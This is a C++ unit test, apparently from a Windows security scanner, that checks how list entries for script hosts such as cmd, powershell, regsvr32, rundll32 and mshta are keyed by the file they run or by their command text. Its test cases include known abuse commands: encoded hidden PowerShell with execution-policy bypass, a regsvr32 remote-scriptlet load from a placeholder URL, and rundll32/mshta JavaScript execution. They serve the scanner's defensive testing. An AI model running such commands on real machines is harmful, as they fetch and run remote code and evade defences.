// What an entry is known by in the lists: its file, or, for the system's script hosts,
// the script or DLL its command runs, or else its whole command text.
#include "guard/ListKey.h"

#include <gtest/gtest.h>

#include "app/TextFunctions.h"
#include "guard/CommandResolution.h"
#include "guard/HashCache.h"
#include "guard/Scan.h"
#include "platform/files.h"
#include "support/ScanMachine.h"

void PrintTo(const ListRecord& record, std::ostream* out) {
  *out << "{" << record.file << ", " << record.hash << ", " << record.key << "}";
}

namespace {

// The host files live in the machine's Windows folder; the scripts beside its programs.
class ListKeyTest : public ::testing::Test {
 protected:
  ListKeyTest() : program_files_("ProgramFiles", machine_.folder().File("Program Files")) {
    platform::CreateFolder(machine_.Windir() + "\\system32");
    for (const char* host : {"cmd", "powershell", "wscript", "regsvr32", "rundll32", "mshta"})
      machine_.folder().Write(std::string("windows\\system32\\") + host + ".exe", host);
    platform::CreateFolder(machine_.folder().File("Program Files"));
    platform::CreateFolder(machine_.folder().File("Program Files\\PowerShell"));
    machine_.folder().Write("Program Files\\PowerShell\\pwsh.exe", "pwsh");
  }

  std::string System32(const std::string& name) const {
    return machine_.Windir() + "\\system32\\" + name;
  }

  // The record the scan makes of Command, its file resolved and hashed as the scan does.
  ListRecord RecordOf(const std::string& command, bool by_digest = true) const {
    std::string file = ResolveCommandFile(command);
    return ListRecordOf(command, file, GetFileHashCached(file, kScanHashAlgorithm), by_digest);
  }

  ScanMachine machine_;
  ScopedEnv program_files_;
};

}  // namespace

TEST_F(ListKeyTest, AHostIsKnownByTheFileItRunsOrElseByItsWholeCommand) {
  const std::string bat = machine_.Program("task.bat", "bat");
  const std::string spaced = machine_.Program("my script.ps1", "ps1");
  const std::string vbs = machine_.Program("tray.vbs", "vbs");
  const std::string dll = machine_.Program("helper.dll", "dll");
  const std::string hta = machine_.Program("page.hta", "hta");
  const std::string fake_cmd = machine_.Program("cmd.exe", "not the system's cmd");
  const std::string missing = machine_.folder().File("programs\\gone.vbs");
  const std::string text = "(whole command)";
  const std::string own = "(its own digest)";
  struct Case {
    std::string command;
    std::string known_by;  // the script, or text or own
  };
  const Case cases[] = {
      {System32("cmd.exe") + " /c " + bat + " /quiet", bat},
      {"cmd /q /d /k \"" + bat + "\"", bat},
      {"cmd.exe /c echo hello", text},
      {"cmd /c " + bat + " & " + System32("mshta.exe"), text},
      {"cmd /c " + bat + " > nul", text},
      {"cmd /c" + bat, text},
      {"cmd /c powershell -enc SQBFAFgA", text},
      {"cmd", text},
      {"powershell.exe -NoProfile -ep Bypass -WindowStyle Hidden -File \"" + spaced + "\" -x 1",
       spaced},
      {machine_.folder().File("Program Files\\PowerShell\\pwsh.exe") + " -f \"" + spaced + "\"",
       spaced},
      {"powershell -enc SQBFAFgA", text},
      {"powershell -e SQBFAFgA -File \"" + spaced + "\"", text},
      {"powershell -Command \"& '" + spaced + "'\"", text},
      {"powershell Get-Item x -File \"" + spaced + "\"", text},
      {System32("wscript.exe") + " //B //nologo " + vbs + " /tray", vbs},
      {"wscript " + missing, text},
      {"regsvr32 /s " + dll, dll},
      {"regsvr32 /s /n /u /i:http://example.invalid/x.sct " + dll, text},
      {"regsvr32 /s " + dll + " " + dll, text},
      {"mshta " + hta, hta},
      {"mshta javascript:close()", text},
      {"rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";close()", text},
      {"\"" + System32("rundll32.exe") + "\" " + dll + ",Start", dll},
      {fake_cmd + " /c " + bat, own},
  };
  // Matched by digest or by path, a host's entry is known by what it runs, never by the host.
  for (bool by_digest : {true, false}) {
    for (const Case& c : cases) {
      SCOPED_TRACE(c.command + (by_digest ? " (by digest)" : " (by path)"));
      ListRecord record = RecordOf(c.command, by_digest);
      std::string file = ResolveCommandFile(c.command);
      std::string text_key = CommandTextKey(c.command);
      if (c.known_by == text) {
        EXPECT_EQ(record, (ListRecord{file, text_key, text_key}));
        continue;
      }
      std::string known = c.known_by == own ? file : c.known_by;
      std::string digest = GetFileHashCached(known, kScanHashAlgorithm);
      EXPECT_FALSE(digest.empty());
      EXPECT_EQ(LowerCase(record.file), LowerCase(known));
      EXPECT_EQ(record.hash, digest);
      EXPECT_EQ(LowerCase(record.key), LowerCase(by_digest ? digest : known));
    }
  }
  EXPECT_NE(CommandTextKey("cmd.exe /c echo hello"), CommandTextKey("cmd.exe /c echo Hello"));
}
